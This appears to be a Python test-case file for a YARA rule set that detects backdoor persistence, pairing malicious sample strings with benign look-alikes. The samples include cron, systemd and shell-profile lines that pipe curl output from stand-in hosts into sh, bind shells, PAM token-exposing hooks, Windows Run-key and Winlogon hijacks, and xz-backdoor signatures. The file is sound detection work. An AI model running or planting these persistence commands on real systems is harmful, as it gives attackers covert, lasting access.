"""Cases of ``persistence.yar``."""

from __future__ import annotations

from tests.rules_backdoor.make import Case, case, elf, library, pe, reg, sh, wide

RUN = r"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run"
XZ = "f30f1efa554889f54c89ce5389fb81e7000000804883ec28488954241848894c2410"

PERSIST: tuple[Case, ...] = (
    case(
        "persist_cron_fetch",
        (
            "*/5 * * * * root curl -s http://in.invalid/u | sh\n",
            "0 3 * * * /tmp/u\n",
            "SHELL=/bin/sh\n@reboot root /usr/lib/.cache &\n",
            elf("crontab", "* * * * * /dev/shm/kdmp"),
        ),
        (
            "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
            "*/5 * * * * root curl -s https://in.invalid/health\n",
            "@reboot root /usr/sbin/startup\n",
        ),
    ),
    case(
        "persist_at_job",
        (sh("echo /opt/u | at now + 5 minutes"), sh("at -f /opt/u.sh midnight")),
        (sh("echo look at now"), "echo /opt/u | at now", sh("atq | wc -l")),
    ),
    case(
        "persist_systemd_fetch",
        (
            (
                "[Unit]\nDescription=x\n[Service]\n"
                "ExecStart=/bin/sh -c 'curl -s http://a.invalid/u | sh'\n"
                "[Install]\nWantedBy=multi-user.target\n"
            ),
            "[Service]\nType=simple\nExecStart=/var/tmp/u --quiet\n",
            "[Service]\nExecStart=-/usr/lib/.kdmp\n",
        ),
        (
            "[Service]\nExecStart=/usr/bin/curl https://in.invalid/health\n",
            "[Service]\nExecStart=/usr/sbin/daemon --pid /run/d.pid\n",
            "ExecStart=/tmp/u\n",
        ),
    ),
    case(
        "persist_systemd_transient",
        (
            sh("systemd-run --on-calendar=daily /opt/u"),
            sh("cat > /etc/systemd/system/u.service <<E", "E", "systemctl enable u"),
            sh("cp gen /etc/systemd/system-generators/gen"),
        ),
        (
            sh("systemd-run --scope /opt/u"),
            sh("systemctl enable vendor"),
            "cat > /etc/systemd/system/u.service; systemctl enable u",
        ),
    ),
    case(
        "persist_network_hook",
        (
            sh("cp hook /etc/NetworkManager/dispatcher.d/99x"),
            sh("echo '/opt/u &' >> /etc/ppp/ip-up.d/0001x"),
        ),
        (
            sh("ls /etc/NetworkManager/dispatcher.d/"),
            "cp hook /etc/NetworkManager/dispatcher.d/99x",
        ),
    ),
    case(
        "persist_profile_hook",
        (
            sh('echo "nohup /tmp/u &" >> /etc/profile'),
            sh("echo 'curl -s http://in.invalid/u | sh' >> /root/.bashrc"),
            sh("install -m 755 m /etc/update-motd.d/00-x"),
        ),
        (
            sh("echo 'export PATH=$PATH:/opt/bin' >> /etc/profile"),
            sh("cat /etc/profile"),
        ),
    ),
    case(
        "persist_desktop_autostart",
        (
            (
                "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://in.invalid/u | sh'\n"
                "NoDisplay=true\n"
            ),
            "[Desktop Entry]\nExec=/home/op/.config/.upd\nHidden=false\n",
            sh("cat > /home/op/.config/autostart/u.desktop <<E", "E"),
        ),
        (
            "[Desktop Entry]\nType=Application\nExec=/usr/bin/viewer %F\nNoDisplay=true\n",
            "[Desktop Entry]\nExec=sh -c 'viewer'\n",
        ),
    ),
    case(
        "persist_pam_script",
        (
            "#%PAM-1.0\nauth optional pam_exec.so quiet expose_authtok /usr/bin/x\n",
            sh("echo 'session optional pam_exec.so /opt/u' >> /etc/pam.d/sshd"),
            sh("cp pam_helper.so /lib/security/"),
        ),
        (
            "#%PAM-1.0\nauth required pam_unix.so\n",
            "# pam_exec.so may be used\nsession optional pam_exec.so /usr/bin/x\n",
        ),
    ),
    case(
        "persist_pam_module",
        (
            library("pam_sm_authenticate", "pam_get_authtok", "/usr/include/.sys", "%s:%s\n"),
            library("pam_sm_authenticate", "pam_get_user", "magic_pass", "strcmp"),
        ),
        (
            library("pam_sm_authenticate", "pam_get_authtok", "/var/log/tallylog", "strcmp"),
            library("pam_get_authtok", "/usr/include/.sys"),
        ),
    ),
    case(
        "persist_kernel_module",
        (
            sh("insmod /tmp/kx.ko"),
            sh("cp kx.ko /lib/modules/5.10/extra/", "depmod -a", "echo kx >> /etc/modules"),
        ),
        (
            sh("insmod /lib/modules/5.10/can.ko"),
            sh("modprobe can", "cat /etc/modules"),
        ),
    ),
    case(
        "persist_udev_write",
        (
            sh('echo \'ACTION=="add", RUN+="/opt/u"\' > /etc/udev/rules.d/99-x.rules'),
            sh("cat > /etc/udev/rules.d/9.rules <<E", 'SUBSYSTEM=="usb", RUN+="/opt/u"', "E"),
        ),
        (
            sh('echo \'KERNEL=="ttyUSB*", MODE="0666"\' > /etc/udev/rules.d/99-x.rules'),
            'SUBSYSTEM=="usb", RUN+="/usr/bin/mount"\n',
        ),
    ),
    case(
        "persist_inittab_respawn",
        (
            "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/telnetd -F -l /bin/sh\n",
            "x:2345:respawn:/tmp/u\n",
            "::once:/bin/sh -c 'wget http://in.invalid/u'\n",
        ),
        (
            "::sysinit:/etc/init.d/rcS\nttyS0::respawn:/sbin/getty -L ttyS0 115200\n",
            "#::respawn:/sbin/telnetd\n",
        ),
    ),
    case(
        "persist_inetd_shell",
        (
            "ingreslock stream tcp nowait root /bin/sh sh -i\n",
            "service x\n{\n server = /bin/bash\n}\n",
            "[Socket]\nListenStream=9999\nAccept=yes\n[Service]\nExecStart=-/bin/sh -i\n",
        ),
        (
            "ftp stream tcp nowait root /usr/sbin/vsftpd vsftpd\n",
            "service x\n{\n server = /usr/sbin/tftpd\n}\n",
        ),
    ),
    case(
        "persist_android_service",
        (
            (
                "service sud /system/xbin/su --daemon\n    class main\n    user root\n"
                "    seclabel u:r:su:s0\n"
            ),
            "service helper /data/local/tmp/helper\n    user root\n",
            "on boot\n    write /sys/fs/selinux/enforce 0\n",
        ),
        (
            "service vold /system/bin/vold\n    class core\n    user root\n",
            "service x /vendor/bin/x\n    user system\n    seclabel u:r:x:s0\n",
        ),
    ),
    case(
        "persist_boot_environment",
        (
            sh('fw_setenv bootcmd "run hook; bootm 0x80000"'),
            "bootargs=console=ttyS0 root=/dev/mtd3 init=/bin/sh\n",
            sh("sed -i 's/GRUB_CMDLINE_LINUX=\"/&selinux=0 /' /etc/default/grub"),
        ),
        (
            sh("fw_setenv upgrade_available 1", "fw_setenv BOOT_ORDER 'B A'"),
            "bootargs=console=ttyS0 root=/dev/mtd3 init=/sbin/init\n",
            "bootcmd=run distro_bootcmd\n",
        ),
    ),
    case(
        "persist_windows_run_key",
        (
            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d "%TEMP%\u.exe"',
            reg(RUN, r'"u"="powershell -w hidden -File C:\\u.ps1"'),
            wide(r"copy u.vbs C:\Users\op\AppData\Start Menu\Programs\Startup\u.vbs"),
        ),
        (
            reg(RUN, r'"Viewer"="C:\\Program Files\\Vendor\\viewer.exe"'),
            pe(wide(r"Software\Microsoft\Windows\CurrentVersion\Run")),
        ),
    ),
    case(
        "persist_winlogon",
        (
            r'reg add "HKLM\x\Winlogon" /v Userinit /d "C:\Windows\system32\userinit.exe,C:\u.exe"',
            "[x]\r\n" + r'"Shell"="explorer.exe,C:\\u.exe"',
        ),
        (
            "[x]\r\n" + r'"Userinit"="C:\\Windows\\system32\\userinit.exe,"',
            "[x]\r\n" + r'"Shell"="explorer.exe"',
        ),
    ),
    case(
        "persist_loader_audit",
        (
            library("la_version", "la_symbind64", "connect"),
            sh("export LD_AUDIT=/usr/lib/libx.so"),
        ),
        (
            library("la_version", "la_symbind64", "_rtld_global"),
            library("la_version", "la_objopen"),
            sh("unset LD_AUDIT"),
        ),
    ),
    case(
        "persist_xz_backdoor",
        (
            library(bytes.fromhex(XZ), "lzma_crc64"),
            'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/`',
            "eval $gl_config | tr x y < tests/files/bad-3-corrupt_lzma2.xz",
        ),
        (
            library(bytes.fromhex(XZ)[:-2], "lzma_crc64"),
            "tests/files/bad-3-corrupt_lzma2.xz\ntests/files/good-1.xz\n",
        ),
    ),
    case(
        "persist_symbol_hook",
        (library("lzma_crc64", "/usr/sbin/sshd", "RSA_public_decrypt", "dl_iterate_phdr"),),
        (
            library("RSA_public_decrypt", "dlsym", "EVP_DigestInit"),
            elf("/usr/sbin/sshd", "RSA_public_decrypt", "dlsym"),
        ),
    ),
    case(
        "persist_immutable_file",
        (sh("chattr +i /etc/ld.so.preload"), sh("chattr -R +ia /usr/bin/")),
        (sh("chattr -i /etc/passwd"), sh("chattr +C /var/lib/images"), sh("lsattr /etc")),
    ),
    case(
        "persist_survive_upgrade",
        (
            sh("echo /usr/sbin/u >> /etc/sysupgrade.conf"),
            sh("cp u.sh /system/addon.d/70-u.sh"),
            sh("cp -a u /overlay/upper/etc/init.d/u"),
        ),
        (
            sh("echo /etc/config/network >> /etc/sysupgrade.conf"),
            sh("cat /etc/sysupgrade.conf"),
        ),
    ),
)
